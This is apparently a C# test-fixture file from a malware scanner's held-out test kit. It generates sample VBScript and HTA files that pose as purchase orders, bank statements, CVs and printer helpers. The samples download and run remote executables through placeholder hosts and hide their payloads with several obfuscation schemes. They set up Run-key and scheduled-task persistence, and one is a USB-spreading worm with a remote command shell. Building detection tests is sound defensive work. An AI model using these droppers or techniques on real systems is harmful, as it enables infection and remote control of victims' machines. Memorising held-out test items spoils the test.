using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>VBScript files that fetch a program and start it.</summary>
public sealed class VbScriptFetchAndRun : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Purchase_Order.vbs", Dos("""
            Dim xHttp: Set xHttp = CreateObject("Microsoft.XMLHTTP")
            Dim bStrm: Set bStrm = CreateObject("Adodb.Stream")
            xHttp.Open "GET", "http://192.0.2.18/po/client.exe", False
            xHttp.Send
            With bStrm
                .Type = 1
                .Open
                .Write xHttp.responseBody
                .SaveToFile "C:\Users\Public\client.exe", 2
            End With
            CreateObject("WScript.Shell").Run "C:\Users\Public\client.exe", 0, False
            """)),
        ("Relevé bancaire novembre.vbs", Dos(""""
            ' Relevé de compte
            Option Explicit
            On Error Resume Next
            Dim coquille, commande
            Set coquille = WScript.CreateObject("WScript.Shell")
            commande = "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command " & _
                """$d=$env:PUBLIC+'\Documents\rv.exe';" & _
                "(New-Object Net.WebClient).DownloadFile('https://espace-releve.example/get/rv.exe',$d);" & _
                "Start-Process $d"""
            coquille.Run commande, 0, True
            MsgBox "Le fichier demandé est introuvable (0x80070002).", vbCritical, "Lecteur de documents"
            """")),
        ("Boleto_Atualizado.vbs", Utf16("""
            Set objWMI = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2")
            Set objStartup = objWMI.Get("Win32_ProcessStartup").SpawnInstance_
            objStartup.ShowWindow = 0
            Set objProcess = objWMI.Get("Win32_Process")
            pasta = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%ProgramData%") & "\NFe"
            Set fso = CreateObject("Scripting.FileSystemObject")
            If Not fso.FolderExists(pasta) Then fso.CreateFolder pasta
            objProcess.Create "bitsadmin /transfer nfe /download /priority FOREGROUND http://203.0.113.201/nfe/mod.zip " & pasta & "\mod.zip", Null, objStartup, pid
            WScript.Sleep 20000
            Set sh = CreateObject("Shell.Application")
            sh.NameSpace(pasta).CopyHere sh.NameSpace(pasta & "\mod.zip").Items, 20
            objProcess.Create pasta & "\AutoIt3.exe " & pasta & "\mod.a3x", Null, objStartup, pid
            fso.DeleteFile WScript.ScriptFullName, True
            """)),
        ("print-queue-helper.vbs", Dos("""
            ' Print queue helper: refreshes the list of printers after a change of the server
            Class PrinterQueue
                Private folder, tool
                Private Sub Class_Initialize
                    tool = Mid("xxconhost", 3) & ".exe"
                    folder = Left("%LOCALAPPDATA%\Temp\spool", 24)
                End Sub
                Public Sub Refresh(server)
                    Dim host: Set host = GetObject("new:13709620-C279-11CE-A49E-444553540000")
                    host.ShellExecute tool, "--headless cmd /c cu" & "rl -skLo " & folder & "q.tmp ht" & "tps://" & server & "/q && ren " & folder & "q.tmp q.cpl && con" & "trol " & folder & "q.cpl", "", "", 0
                End Sub
            End Class
            With New PrinterQueue
                .Refresh Join(Array("printsrv", "spooler-eu", "example"), ".")
            End With
            """)),
    ];
}

/// <summary>VBScript files that hide what they say, or come back at each start.</summary>
public sealed class VbScriptInDisguise : SeventhRound
{
    private const string Plain = """Set h=CreateObject("MSXML2.XMLHTTP"):h.Open "GET","http://198.51.100.12/s/r.bin",0:h.Send:Set s=CreateObject("ADODB.Stream"):s.Type=1:s.Open:s.Write h.ResponseBody:p=CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%")&"\r.exe":s.SaveToFile p,2:CreateObject("WScript.Shell").Run p,0""";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Doc_29_11.vbs", Dos("Execute(" + string.Join('&', Plain.Select((letter, at) => at % 3 == 0 ? $"Chr({letter + 0})" : $"ChrW({letter + 40}-40)")) + ")")),
        ("UPS_Label.vbs", Dos(Fill("""""
            Dim Polyphone, Antechamber
            Antechamber = "@@1"
            Polyphone = StrReverse(Replace(Antechamber, "{~}", ""))
            ExecuteGlobal Polyphone
            Set Wsh = CreateObject(StrReverse("llehS.tpircSW"))
            Wsh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\UPSLabel", "wscript.exe //B """ & WScript.ScriptFullName & """", "REG_SZ"
            """"", string.Join("{~}", Pieces(Backwards(Plain), 4)).Replace("\"", "\"\"", StringComparison.Ordinal)))),
        ("Накладна_1127.vbs", Utf16(Fill(""""
            Function D(ByVal s, ByVal k)
                Dim i, o
                For i = 1 To Len(s) Step 2
                    o = o & Chr(CLng("&H" & Mid(s, i, 2)) Xor k)
                Next
                D = o
            End Function
            ExecuteGlobal D("@@1", 90)
            CreateObject(D("@@2", 90)).Run D("@@3", 90) & WScript.ScriptFullName & """ /f", 0, True
            """", Hex(Plain, 90), Hex("WScript.Shell", 90), Hex("schtasks /create /sc minute /mo 15 /tn \"OneDrive Reporting\" /tr \"wscript //e:vbscript ", 90)))),
        ("svchost.vbs", Dos("""
            ' <[ recoder : nobody (c) ]>
            host = "panel.dyn-host.example" : port = 7731
            Set sh = CreateObject("WScript.Shell") : Set fs = CreateObject("Scripting.FileSystemObject")
            n = WScript.ScriptName : startup = sh.SpecialFolders("Startup") & "\" : tmp = sh.ExpandEnvironmentStrings("%TEMP%") & "\"
            sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\" & Split(n, ".")(0), "wscript.exe //B " & ChrW(34) & tmp & n & ChrW(34), "REG_SZ"
            fs.CopyFile WScript.ScriptFullName, tmp & n, True
            fs.CopyFile WScript.ScriptFullName, startup & n, True
            Do
                For Each drive In fs.Drives
                    If drive.IsReady And drive.DriveType = 1 Then
                        fs.CopyFile WScript.ScriptFullName, drive.Path & "\" & n, True
                        For Each f In fs.GetFolder(drive.Path & "\").Files
                            If LCase(fs.GetExtensionName(f.Name)) <> "lnk" And f.Name <> n Then
                                f.Attributes = 2
                                Set l = sh.CreateShortcut(drive.Path & "\" & Split(f.Name, ".")(0) & ".lnk")
                                l.TargetPath = "cmd.exe" : l.WindowStyle = 7
                                l.Arguments = "/c start " & n & "&start " & Replace(f.Name, " ", ChrW(34) & " " & ChrW(34)) & "&exit"
                                l.Save
                            End If
                        Next
                    End If
                Next
                r = Split(Post("is-ready", sh.ExpandEnvironmentStrings("%COMPUTERNAME%<|>%USERNAME%")), "<|>")
                Select Case r(0)
                    Case "excecute" : Execute r(1)
                    Case "uninstall" : fs.DeleteFile startup & n : WScript.Quit
                    Case "send" : Post "file", r(1)
                    Case "cmd-shell" : Post "is-cmd-shell", sh.Exec("%comspec% /c " & r(1)).StdOut.ReadAll
                End Select
                WScript.Sleep 5000
            Loop
            Function Post(c, p)
                Set x = CreateObject("MSXML2.XMLHTTP")
                x.Open "POST", "http://" & host & ":" & port & "/" & c, False
                x.SetRequestHeader "user-agent:", p
                x.Send p
                Post = x.ResponseText
            End Function
            """)),
    ];
}

/// <summary>HTML applications that fetch and run.</summary>
public sealed class HtmlApplicationAttack : SeventhRound
{
    private const string Page = """""<script language="VBScript">Set q=CreateObject("WScript.Shell"):q.Run "cmd /c curl -s -o %TEMP%\doc.exe http://203.0.113.50/doc.exe && start """" %TEMP%\doc.exe",0:window.close</script>""""";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("update.hta", Dos(""""
            <html>
            <head>
            <HTA:APPLICATION ID="upd" APPLICATIONNAME="Update" BORDER="none" SHOWINTASKBAR="no" SINGLEINSTANCE="yes" WINDOWSTATE="minimize">
            <script language="VBScript">
            Sub Window_OnLoad
                window.moveTo -4000, -4000
                window.resizeTo 0, 0
                Set objShell = CreateObject("WScript.Shell")
                objShell.Run "powershell -nop -w hidden -ep bypass -c ""IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.77/s.ps1')""", 0, False
                self.close
            End Sub
            </script>
            </head>
            <body></body>
            </html>
            """")),
        ("Bewerbung_Lebenslauf.hta", Dos("""
            <!DOCTYPE html>
            <html><head><meta http-equiv="x-ua-compatible" content="ie=9"><title>Lebenslauf</title>
            <hta:application caption="yes" icon="winword.exe" contextmenu="no" scroll="no" />
            <script>
            function los() {
              var x = new ActiveXObject("MSXML2.XMLHTTP.3.0"), t = new ActiveXObject("Scripting.FileSystemObject").GetSpecialFolder(2) + "\\";
              x.open("GET", "https://karriere-profil.example/cv/7.dat", false); x.send();
              var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile(t + "profil.scr", 2);
              x.open("GET", "https://karriere-profil.example/cv/7.docx", false); x.send();
              s.Close(); s.Open(); s.Write(x.responseBody); s.SaveToFile(t + "Lebenslauf.docx", 2);
              var w = new ActiveXObject("WScript.Shell");
              w.Run('"' + t + 'Lebenslauf.docx"', 1, false);
              w.Run('"' + t + 'profil.scr" /S', 0, false);
              window.close();
            }
            </script></head>
            <body onload="setTimeout(los, 400)"><p>Dokument wird geöffnet &hellip;</p></body></html>
            """)),
        ("見積書.hta", Dos(Fill("""
            <html><head><title>見積書を開いています</title><HTA:APPLICATION SYSMENU="no" SHOWINTASKBAR="no" MAXIMIZEBUTTON="no"/></head>
            <body><p>読み込み中…</p>
            <script language="javascript">
            document.write(unescape('@@1'));
            </script>
            </body></html>
            """, string.Concat(Page.Select(letter => $"%{(int)letter:X2}"))))),
        ("ReaderSettings.hta", Dos(Fill("""
            <html><head><title>Reader settings</title>
            <style>body { font: 13px Segoe UI; } #d { display: none; } .row { margin: 6px 0; }</style></head>
            <body>
            <div class="row"><label><input type="checkbox" checked> Open in the last view</label></div>
            <div class="row"><label><input type="checkbox"> Use a dark page</label></div>
            <textarea id="d">@@1</textarea>
            <script type="text/vbscript">
            Function Opened(t)
                Dim p, i, o
                p = Split(Trim(t), " ")
                For i = UBound(p) To 0 Step -1
                    o = o & Chr((CInt(p(i)) - 11) / 3)
                Next
                Opened = o
            End Function
            window.resizeTo 420, 260
            Set keeper = CreateObject(Opened(document.getElementById("d").title & "@@2"))
            keeper.Run Opened(document.getElementById("d").innerText), 0
            </script>
            </body></html>
            """, Numbers("""mshta vbscript:Close(Execute("GetObject(""script:https://reader-cdn.example/view.sct"")"))"""), Numbers("WScript.Shell")))),
    ];

    /// <summary>Three times each code and eleven, the last letter first.</summary>
    private static string Numbers(string text) => string.Join(' ', text.Reverse().Select(letter => (letter * 3) + 11));
}
